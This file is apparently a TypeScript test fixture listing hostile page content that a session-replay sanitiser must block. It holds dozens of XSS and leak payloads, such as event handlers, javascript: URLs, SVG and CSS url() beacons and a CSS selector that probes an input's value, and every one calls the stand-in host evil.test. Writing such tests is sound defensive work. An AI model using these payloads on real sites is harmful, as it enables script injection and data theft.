// What a hostile console can put into a recording. Every one tries to reach SINK when it runs, loads or leads anywhere.
import { element, text } from './events.ts';

export const SINK = 'http://evil.test';
export const RUN = `fetch('${SINK}/ran');new Image().src='${SINK}/ran'`;
let n = 0;
export const url = (name: string): string => {
  n += 1;
  return `${SINK}/${name}?${n}`;
};
export const css = (content: string) => element('style', {}, [text(content, { isStyle: true })]);

/** name -> nodes for head and body */
export const HOSTILE: { readonly [name: string]: () => { head?: object[]; body?: object[] } } = {
  scripts: () => ({
    head: [element('script', {}, [text(RUN)]), element('script', { src: url('script'), type: 'module' })],
    body: [element('script', { type: 'speculationrules' }, [text(`{"prefetch":[{"urls":["${url('rules')}"]}]}`)])],
  }),
  handlers: () => ({
    body: [
      element('img', { src: 'x', onerror: RUN }),
      element('svg', { onload: RUN }, [], { isSVG: true }),
      element('details', { open: '', ontoggle: RUN }, [element('summary', {}, [text('x')])]),
      element('input', { autofocus: '', onfocus: RUN }),
      element('div', { style: 'animation:x 1s', onanimationstart: RUN, ONCLICK: RUN }),
      element('body', { onload: RUN, onpageshow: RUN }),
    ],
  }),
  'script addresses': () => ({
    body: [
      element('a', { href: `javascript:${RUN}` }, [text('here')]),
      element('iframe', { src: `javascript:${RUN}` }),
      element('form', { action: `javascript:${RUN}` }, [element('button', { formaction: `javascript:${RUN}` })]),
      element('object', { data: `javascript:${RUN}` }),
      element('a', { href: `data:text/html,<script>${RUN}</script>` }, [text('here')]),
    ],
  }),
  svg: () => ({
    body: [
      element(
        'svg',
        { width: '100', height: '100' },
        [
          element('script', {}, [text(RUN)], { isSVG: true }),
          element('foreignObject', {}, [element('iframe', { srcdoc: `<script>${RUN}</script>` })], { isSVG: true }),
          element('use', { 'xlink:href': url('use#x'), href: url('use#y') }, [], { isSVG: true }),
          element('image', { href: url('svgimage'), 'xlink:href': url('svgimage') }, [], { isSVG: true }),
          element('feImage', { href: url('feimage') }, [], { isSVG: true }),
          element(
            'a',
            { href: url('svga') },
            [element('animate', { attributeName: 'href', to: `javascript:${RUN}`, begin: '0s' }, [], { isSVG: true })],
            { isSVG: true },
          ),
          element('set', { attributeName: 'onload', to: RUN }, [], { isSVG: true }),
        ],
        { isSVG: true },
      ),
      element('img', {
        src: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${url('insvg')}"/></svg>`,
      }),
    ],
  }),
  'head of the page': () => ({
    head: [
      element('meta', { 'http-equiv': 'refresh', content: `0;url=${url('refresh')}` }),
      element('meta', { 'http-equiv': 'Content-Security-Policy', content: 'default-src *' }),
      element('base', { href: `${SINK}/`, target: '_top' }),
      ...[
        'preload',
        'prefetch',
        'preconnect',
        'dns-prefetch',
        'modulepreload',
        'prerender',
        'stylesheet',
        'icon',
        'manifest',
        'import',
      ].map((rel) => element('link', { rel, href: url(rel), as: 'script', crossorigin: '' })),
      element('link', {
        rel: 'stylesheet',
        href: url('captured'),
        _cssText: `@import url(${url('captured-import')});p{color:red}`,
      }),
    ],
  }),
  frames: () => ({
    body: [
      element('iframe', { src: url('iframe') }),
      element('iframe', { srcdoc: `<script>${RUN}</script><img src=${url('srcdoc')}>`, sandbox: 'allow-scripts' }),
      element('iframe', { rr_src: url('rrsrc') }),
      ...['object', 'embed', 'applet', 'portal', 'fencedframe', 'frame', 'webview'].map((tag) =>
        element(tag, { src: url(tag), data: url(tag), code: url(tag) }),
      ),
    ],
  }),
  styles: () => ({
    head: [
      css(`@import url(${url('import')}); @import "${url('import')}";`),
      css(`@font-face{font-family:x;src:url(${url('font')})} body{font-family:x;background:url(${url('background')})}`),
      css(`input[value^="s"]{background:url(${url('attribute')})} a:visited{background:url(${url('visited')})}`),
      css(
        `*::before{content:url(${url('content')})} p{cursor:url(${url('cursor')}),auto;mask:url(${url('mask')})} ul{list-style:url(${url('list')})}`,
      ),
      css(
        `@namespace url(${url('namespace')}); div{background:image-set("${url('set')}" 1x);behavior:url(${url('behavior')})}`,
      ),
    ],
    body: [
      element('input', { value: 'secret', type: 'text' }),
      element('p', { style: `background:url(${url('inline')})` }, [text('x')]),
      element('ul', {}, [element('li', {}, [text('x')])]),
    ],
  }),
  media: () => ({
    body: [
      element('img', { src: url('img'), srcset: `${url('srcset')} 2x`, loading: 'eager' }),
      element('picture', {}, [element('source', { srcset: url('picture') }), element('img', { src: url('fallback') })]),
      element('video', { src: url('video'), poster: url('poster'), autoplay: '', preload: 'auto' }, [
        element('track', { src: url('track'), default: '' }),
      ]),
      element('audio', { src: url('audio'), autoplay: '' }, [element('source', { src: url('source') })]),
      element('input', { type: 'image', src: url('inputimage') }),
      element('table', { background: url('tablebackground') }),
      element('canvas', { rr_dataURL: url('canvas') }),
      element('img', { rr_dataURL: url('rrimg'), rr_src: url('rrimg') }),
    ],
  }),
  'pictures by attribute': () => ({
    body: [
      element(
        'svg',
        { width: '40', height: '40', style: `cursor:url(${url('svgcursor')}),auto` },
        [
          ...['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'marker-end'].map((name) =>
            element('path', { d: 'M0 0L9 9', [name]: `url(${url(name)}#x)` }, [], { isSVG: true }),
          ),
          element('style', {}, [text(`@import url(${url('svgimport')});`, { isStyle: true })], { isSVG: true }),
          element('textPath', { href: url('textpath#x') }, [], { isSVG: true }),
          element('mpath', { 'xlink:href': url('mpath#x') }, [], { isSVG: true }),
          element('linearGradient', { href: url('gradient#x') }, [], { isSVG: true }),
        ],
        { isSVG: true },
      ),
      element('math', { href: `javascript:${RUN}`, 'xlink:href': url('math') }, [
        element('mglyph', { src: url('mglyph') }),
        element('maction', { actiontype: 'statusline', href: url('maction') }),
        element('annotation-xml', { encoding: 'text/html', src: url('annotation') }, [
          element('img', { src: url('annotationimg'), onerror: RUN }),
        ]),
      ]),
      element('td', { background: url('td') }),
      element('body', { background: url('body') }),
      element('blockquote', { cite: url('cite') }),
      element('html', { manifest: url('manifest') }),
      element('input', { type: 'image', src: url('image'), usemap: '#m' }),
    ],
  }),
  'newer ways of styles': () => ({
    head: [
      css(`@import url(${url('layer')}) layer(x) supports(display:grid) screen;`),
      css(`p{background:-webkit-image-set(url(${url('wkset')}) 1x);background:cross-fade(url(${url('fade')}),red)}`),
      css(`p{background:src("${url('src')}");shape-outside:url(${url('shape')});offset-path:url(${url('path')}#x)}`),
      css(`:root{--u:url(${url('variable')})} p{background:var(--u);border-image:url(${url('border')}) 3}`),
      css(
        `@property --p{syntax:"<image>";inherits:false;initial-value:url(${url('property')})} p{background:var(--p)}`,
      ),
      css(`p::first-line{background:url(${url('firstline')})} @media screen{p{background:url(${url('media')})}}`),
      css(
        `@container (min-width:1px){p{background:url(${url('container')})}} p{& b{background:url(${url('nested')})}}`,
      ),
      css(`/*</style><script>${RUN}</script><style>*/ p{color:red}`),
      element('style', { onload: RUN, media: 'all' }, [text(`@import "${url('withload')}";`, { isStyle: true })]),
    ],
    body: [
      element('p', {
        style: `background:-webkit-image-set(url(${url('styleset')}) 1x);mask-image:url(${url('mask')})`,
      }),
      element('b', { style: `@import url(${url('styleimport')});list-style-image:url(${url('stylelist')})` }),
    ],
  }),
  'shadow roots and own elements': () => ({
    body: [
      element(
        'div',
        {},
        [
          element('script', {}, [text(RUN)], { isShadow: true }),
          element('style', {}, [text(`@import url(${url('shadowimport')});:host{background:url(${url('host')})}`)], {
            isShadow: true,
          }),
          element('img', { src: url('shadowimg'), onerror: RUN }, [], { isShadow: true }),
        ],
        { isShadowHost: true },
      ),
      element('template', { shadowrootmode: 'open', shadowrootclonable: '' }, [
        element('script', {}, [text(RUN)]),
        element('img', { src: url('template'), onerror: RUN }),
      ]),
      element('x-evil', { onclick: RUN, onfocus: RUN, tabindex: '0', autofocus: '' }, [], { isCustom: true }),
      element('button', { is: 'x-button', onclick: RUN }, [], { isCustom: true, isShadowHost: true }),
      element('noscript', {}, [element('img', { src: url('noscript') }), text(`<img src=${url('noscripttext')}>`)]),
      element('dialog', { open: '', rr_open_mode: 'modal', onclose: RUN }, [
        element('input', { autofocus: '', onfocus: RUN }),
      ]),
      element('div', { popover: 'auto', onbeforetoggle: RUN, contenteditable: '', accesskey: 'k' }, [text('x')]),
    ],
  }),
  'what a viewer may press': () => ({
    body: [
      element(
        'a',
        { href: `javascript:${RUN}`, target: '_top', style: 'position:fixed;inset:0;z-index:9;font-size:90px' },
        [text('press here')],
      ),
      element('form', { id: 'f', action: url('pressform'), method: 'get', target: '_blank' }, [
        element('button', { type: 'submit', style: 'position:fixed;inset:0;z-index:10;opacity:.1' }, [text('x')]),
      ]),
      element('button', { form: 'f', formaction: `javascript:${RUN}`, formtarget: '_top' }, [text('x')]),
      element('map', { name: 'm' }, [
        element('area', { href: url('area'), shape: 'default', ping: url('areaping'), target: '_top' }),
      ]),
      element('label', { for: 'c' }, [element('input', { id: 'c', type: 'checkbox', onchange: RUN })]),
    ],
  }),
  forms: () => ({
    body: [
      element('form', { action: url('form'), method: 'post', target: '_top' }, [
        element('input', { name: 'a', value: 'b', type: 'submit', formaction: url('formaction') }),
      ]),
      element('a', { href: url('link'), ping: url('ping'), target: '_top', download: 'x' }, [text('link')]),
    ],
  }),
};
